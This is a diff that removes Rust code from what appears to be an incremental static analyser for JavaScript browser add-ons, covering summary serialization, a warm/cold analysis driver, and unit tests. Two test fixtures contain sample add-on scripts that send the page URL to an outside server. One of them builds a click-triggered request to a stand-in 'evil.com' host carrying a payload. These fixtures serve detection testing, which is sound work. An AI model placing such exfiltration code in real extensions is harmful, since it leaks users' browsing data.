-        Json::Arr(
-            set.iter()
-                .map(|(loc, strength)| {
-                    Json::Arr(vec![
-                        norm.nsite(loc.site),
-                        summary::npre(&loc.prop),
-                        summary::nstrength(strength),
-                    ])
-                })
-                .collect(),
-        )
-    };
-    let mut o = Json::obj();
-    o.set(
-        "rw",
-        Json::Arr(
-            rec.rw
-                .iter()
-                .map(|(s, rw)| {
-                    Json::Arr(vec![norm.nstmt(*s), naccess(&rw.reads), naccess(&rw.writes)])
-                })
-                .collect(),
-        ),
-    );
-    o.set(
-        "throws",
-        Json::Arr(rec.may_throw.iter().map(|s| norm.nstmt(*s)).collect()),
-    );
-    o.set(
-        "calls",
-        Json::Arr(
-            rec.call_targets
-                .iter()
-                .map(|(s, t)| {
-                    Json::Arr(vec![
-                        norm.nstmt(*s),
-                        Json::Arr(
-                            t.iter()
-                                .map(|f| Json::from(norm.positions.pos_of(*f)))
-                                .collect(),
-                        ),
-                    ])
-                })
-                .collect(),
-        ),
-    );
-    o.set(
-        "natives",
-        Json::Arr(
-            rec.native_targets
-                .iter()
-                .map(|(s, t)| {
-                    Json::Arr(vec![
-                        norm.nstmt(*s),
-                        Json::Arr(t.iter().map(|n| Json::from(n.0)).collect()),
-                    ])
-                })
-                .collect(),
-        ),
-    );
-    o.set(
-        "sinks",
-        Json::Arr(
-            rec.sink_domains
-                .iter()
-                .map(|((s, k), d)| {
-                    Json::Arr(vec![norm.nstmt(*s), summary::nsink(k), summary::npre(d)])
-                })
-                .collect(),
-        ),
-    );
-    o.set(
-        "apis",
-        Json::Arr(
-            rec.api_uses
-                .iter()
-                .map(|(s, n)| Json::Arr(vec![norm.nstmt(*s), Json::from(n.as_str())]))
-                .collect(),
-        ),
-    );
-    o.set(
-        "aliases",
-        Json::Arr(
-            rec.site_aliases
-                .iter()
-                .map(|(a, b)| Json::Arr(vec![norm.nsite(*a), norm.nsite(*b)]))
-                .collect(),
-        ),
-    );
-    o.set(
-        "stmts",
-        Json::Arr(rec.reachable.iter().map(|s| norm.nstmt(*s)).collect()),
-    );
-    o
-}
-
-/// Deserializes the summary `outputs` object; any malformation is `None`
-/// (treated as a plain miss by the caller).
-fn denorm_attr(
-    de: &Denormer<'_>,
-    j: Option<&Json>,
-    sites: &mut SiteTable,
-    ctxs: &mut CtxTable,
-) -> Option<AttrRecord> {
-    let j = j?;
-    let mut rec = AttrRecord::default();
-    for row in j.get("rw")?.as_array()? {
-        let stmt = de.stmt(&row[0])?;
-        let slot = rec.rw.entry(stmt).or_default();
-        for acc in row[1].as_array()? {
-            let loc = Loc {
-                site: de.site(&acc[0], sites, ctxs)?,
-                prop: summary::dpre(&acc[1])?,
-            };
-            slot.reads.add(loc, summary::dstrength(&acc[2])?);
-        }
-        for acc in row[2].as_array()? {
-            let loc = Loc {
-                site: de.site(&acc[0], sites, ctxs)?,
-                prop: summary::dpre(&acc[1])?,
-            };
-            slot.writes.add(loc, summary::dstrength(&acc[2])?);
-        }
-    }
-    for row in j.get("throws")?.as_array()? {
-        rec.may_throw.insert(de.stmt(row)?);
-    }
-    for row in j.get("calls")?.as_array()? {
-        let stmt = de.stmt(&row[0])?;
-        let slot = rec.call_targets.entry(stmt).or_default();
-        for p in row[1].as_array()? {
-            slot.insert(de.positions.func_at(p.as_str()?)?);
-        }
-    }
-    for row in j.get("natives")?.as_array()? {
-        let stmt = de.stmt(&row[0])?;
-        let slot = rec.native_targets.entry(stmt).or_default();
-        for p in row[1].as_array()? {
-            slot.insert(NativeId(p.as_f64()? as u32));
-        }
-    }
-    for row in j.get("sinks")?.as_array()? {
-        let stmt = de.stmt(&row[0])?;
-        let kind = summary::dsink(&row[1])?;
-        let domain = summary::dpre(&row[2])?;
-        let slot = rec.sink_domains.entry((stmt, kind)).or_insert(Pre::Bot);
-        *slot = slot.join(&domain);
-    }
-    for row in j.get("apis")?.as_array()? {
-        rec.api_uses
-            .insert((de.stmt(&row[0])?, row[1].as_str()?.to_owned()));
-    }
-    for row in j.get("aliases")?.as_array()? {
-        rec.site_aliases
-            .insert(de.site(&row[0], sites, ctxs)?, de.site(&row[1], sites, ctxs)?);
-    }
-    for row in j.get("stmts")?.as_array()? {
-        rec.reachable.insert(de.stmt(row)?);
-    }
-    Some(rec)
-}
-
-/// Deserializes the stored transition edges.
-fn denorm_edges(
-    de: &Denormer<'_>,
-    j: Option<&Json>,
-    ctxs: &mut CtxTable,
-) -> Option<Vec<(CtxNode, CtxNode)>> {
-    let mut out = Vec::new();
-    for row in j?.as_array()? {
-        let a = (de.stmt(&row[0])?, de.ctx(&row[1], ctxs)?);
-        let b = (de.stmt(&row[2])?, de.ctx(&row[3], ctxs)?);
-        out.push((a, b));
-    }
-    Some(out)
-}
-
-/// Runs the base analysis through a summary store: activation subtrees
-/// whose functions are unchanged since a prior run are spliced in from
-/// their stored summaries, everything else runs live and is re-extracted
-/// into the store. The result is bit-identical to [`analyze`] -- any
-/// doubt (a failed footprint check, a broken splice invariant mid-run)
-/// abandons the warm attempt and re-runs cold.
-pub fn analyze_incremental(
-    lowered: &Lowered,
-    config: &AnalysisConfig,
-    store: &dyn SummaryStore,
-    trace: &mut Trace<'_>,
-) -> (AnalysisResult, IncrementalStats) {
-    analyze_incremental_attributed(lowered, config, store, trace, &mut Attribution::Off)
-}
-
-/// [`analyze_incremental`] with cost attribution: tallies only the
-/// steps the warm run actually re-executed (spliced functions cost
-/// nothing, which is the point), and an abandoned warm attempt flushes
-/// nothing — the cold re-run's tally is the one reported.
-pub fn analyze_incremental_attributed(
-    lowered: &Lowered,
-    config: &AnalysisConfig,
-    store: &dyn SummaryStore,
-    trace: &mut Trace<'_>,
-    attr: &mut Attribution<'_>,
-) -> (AnalysisResult, IncrementalStats) {
-    match run_incremental(lowered, config, store, IncrMode::Splice, trace, attr) {
-        Ok(pair) => pair,
-        Err(warm) => {
-            let (result, mut stats) =
-                run_incremental(lowered, config, store, IncrMode::ExtractOnly, trace, attr)
-                    .expect("extract-only runs never splice, so never abandon");
-            stats.summary_hits = 0;
-            stats.summary_misses = warm.summary_hits + warm.summary_misses;
-            stats.abandoned = 1;
-            (result, stats)
-        }
-    }
-}
-
-fn run_incremental(
-    lowered: &Lowered,
-    config: &AnalysisConfig,
-    store: &dyn SummaryStore,
-    mode: IncrMode,
-    trace: &mut Trace<'_>,
-    attr: &mut Attribution<'_>,
-) -> Result<(AnalysisResult, IncrementalStats), IncrementalStats> {
-    let cow_before = jsdomains::cow_clone_count();
-    let mut m = build_machine(lowered, config, Some(IncrState::new(store, mode, lowered)));
-    if attr.is_enabled() {
-        m.attr = Some(AttrTally::new(lowered.program.funcs.len()));
-    }
-    trace.span_start("seed");
-    m.seed();
-    trace.span_end("seed");
-    trace.span_start("fixpoint");
-    let status = m.run();
-    trace.span_end("fixpoint");
-    let completed = matches!(status, RunStatus::Completed);
-    {
-        let incr = m.incr.as_ref().expect("incremental machine");
-        if incr.abandoned || (!incr.roots.is_empty() && !completed) {
-            return Err(incr.stats());
-        }
-    }
-    if completed {
-        let has_splices = !m.incr.as_ref().expect("present").roots.is_empty();
-        if has_splices && !m.incr_obligations_ok() {
-            return Err(m.incr.as_ref().expect("restored").stats());
-        }
-        m.incr_merge_splices();
-        m.incr_extract_and_save();
-    }
-    let stats = m.incr.as_ref().expect("restored").stats();
-    Ok((finish(m, status, cow_before, trace, attr), stats))
-}
-
-#[cfg(test)]
-mod incr_tests {
-    use super::*;
-    use crate::summary::MemorySummaryStore;
-
-    const ADDON: &str = r#"
-function buildUrl(u) {
-  return "http://api.example.com/rank?u=" + u;
-}
-function send(url) {
-  var r = new XMLHttpRequest();
-  r.open("GET", url);
-  r.send(null);
-}
-function notify(txt) {
-  var el = document.getElementById("badge");
-  if (el) { el.value = txt; }
-}
-var u = content.location.href;
-send(buildUrl(u));
-notify("ok");
-"#;
-
-    fn lowered(src: &str) -> Lowered {
-        jsir::lower(&jsparser::parse(src).expect("test source parses"))
-    }
-
-    /// Compares every statement-keyed output of two runs. Allocation-site
-    /// numbering may legitimately differ between a cold and a warm run
-    /// (the splice path interns sites in summary order), so site-keyed
-    /// maps are compared by size and the full identity check lives in the
-    /// Pipeline-level golden tests.
-    fn assert_same_results(a: &AnalysisResult, b: &AnalysisResult, tag: &str) {
-        assert_eq!(a.may_throw, b.may_throw, "{tag}: may_throw");
-        assert_eq!(a.call_targets, b.call_targets, "{tag}: call_targets");
-        assert_eq!(a.native_targets, b.native_targets, "{tag}: native_targets");
-        assert_eq!(a.sinks, b.sinks, "{tag}: sinks");
-        assert_eq!(a.api_uses, b.api_uses, "{tag}: api_uses");
-        assert_eq!(a.cyclic_stmts, b.cyclic_stmts, "{tag}: cyclic_stmts");
-        assert_eq!(a.reachable, b.reachable, "{tag}: reachable");
-        assert_eq!(a.hit_step_limit, b.hit_step_limit, "{tag}: step limit");
-        let keys = |r: &AnalysisResult| r.rw.keys().copied().collect::<Vec<_>>();
-        assert_eq!(keys(a), keys(b), "{tag}: rw statements");
-        for (stmt, rw) in &a.rw {
-            let other = &b.rw[stmt];
-            assert_eq!(rw.reads.len(), other.reads.len(), "{tag}: reads of {stmt:?}");
-            assert_eq!(rw.writes.len(), other.writes.len(), "{tag}: writes of {stmt:?}");
-        }
-    }
-
-    #[test]
-    fn first_incremental_run_matches_cold_and_populates_store() {
-        let l = lowered(ADDON);
-        let config = AnalysisConfig::default();
-        let cold = analyze(&l, &config);
-        let store = MemorySummaryStore::new(64);
-        let (warm, stats) = analyze_incremental(&l, &config, &store, &mut Trace::Off);
-        assert_same_results(&cold, &warm, "first run");
-        assert_eq!(stats.summary_hits, 0);
-        assert!(stats.summary_misses > 0, "contacts should consult the store");
-        assert_eq!(stats.abandoned, 0);
-        assert_eq!(stats.functions_reanalyzed, stats.total_functions);
-        assert!(!store.is_empty(), "extraction should populate the store");
-    }
-
-    #[test]
-    fn warm_rerun_splices_and_matches_cold() {
-        let l = lowered(ADDON);
-        let config = AnalysisConfig::default();
-        let cold = analyze(&l, &config);
-        let store = MemorySummaryStore::new(64);
-        analyze_incremental(&l, &config, &store, &mut Trace::Off);
-        let (warm, stats) = analyze_incremental(&l, &config, &store, &mut Trace::Off);
-        assert_same_results(&cold, &warm, "warm rerun");
-        assert!(stats.summary_hits > 0, "unchanged rerun should splice: {stats:?}");
-        assert_eq!(stats.abandoned, 0);
-        assert!(
-            stats.functions_reanalyzed < stats.total_functions,
-            "unchanged rerun should skip functions: {stats:?}"
-        );
-        assert!(warm.steps < cold.steps, "splicing should save fixpoint steps");
-    }
-
-    #[test]
-    fn editing_one_function_reanalyzes_less_than_everything() {
-        let config = AnalysisConfig::default();
-        let store = MemorySummaryStore::new(64);
-        let l = lowered(ADDON);
-        analyze_incremental(&l, &config, &store, &mut Trace::Off);
-
-        let edited_src = ADDON.replace("\"badge\"", "\"badge-v2\"");
-        assert_ne!(edited_src, ADDON);
-        let edited = lowered(&edited_src);
-        let cold = analyze(&edited, &config);
-        let (warm, stats) = analyze_incremental(&edited, &config, &store, &mut Trace::Off);
-        assert_same_results(&cold, &warm, "after edit");
-        assert_eq!(stats.abandoned, 0, "{stats:?}");
-        assert!(stats.summary_hits > 0, "unchanged functions should splice: {stats:?}");
-        assert!(
-            stats.functions_reanalyzed < stats.total_functions,
-            "only the edited subtree should re-run: {stats:?}"
-        );
-    }
-
-    #[test]
-    fn corrupt_store_contents_are_misses_not_wrong_answers() {
-        struct Garbage;
-        impl SummaryStore for Garbage {
-            fn load(&self, _key: u64) -> Option<String> {
-                Some("{\"schema\":9999,garbage".to_owned())
-            }
-            fn save(&self, _key: u64, _doc: &str) {}
-        }
-        let l = lowered(ADDON);
-        let config = AnalysisConfig::default();
-        let cold = analyze(&l, &config);
-        let (warm, stats) = analyze_incremental(&l, &config, &Garbage, &mut Trace::Off);
-        assert_same_results(&cold, &warm, "garbage store");
-        assert_eq!(stats.summary_hits, 0);
-        assert_eq!(stats.abandoned, 0);
-    }
-
-    #[test]
-    fn figure1_preamble_round_trips_through_the_store() {
-        // A harder shape: closures assigned to variables, conditionals,
-        // and a registered event handler.
-        let src = r#"
-var send = function (payload) {
-  var x = new XMLHttpRequest();
-  x.open("GET", "http://evil.com/c?d=" + payload);
-  x.send(null);
-};
-var getString = function () { return "s"; };
-var onClick = function () { send(getString()); };
-window.addEventListener("click", onClick, false);
-"#;
-        let l = lowered(src);
-        let config = AnalysisConfig::default();
-        let cold = analyze(&l, &config);
-        let store = MemorySummaryStore::new(64);
-        let (first, s1) = analyze_incremental(&l, &config, &store, &mut Trace::Off);
-        assert_same_results(&cold, &first, "closures first");
-        assert_eq!(s1.abandoned, 0);
-        let (second, s2) = analyze_incremental(&l, &config, &store, &mut Trace::Off);
-        assert_same_results(&cold, &second, "closures warm");
-        assert_eq!(s2.abandoned, 0, "{s2:?}");
     }
 }
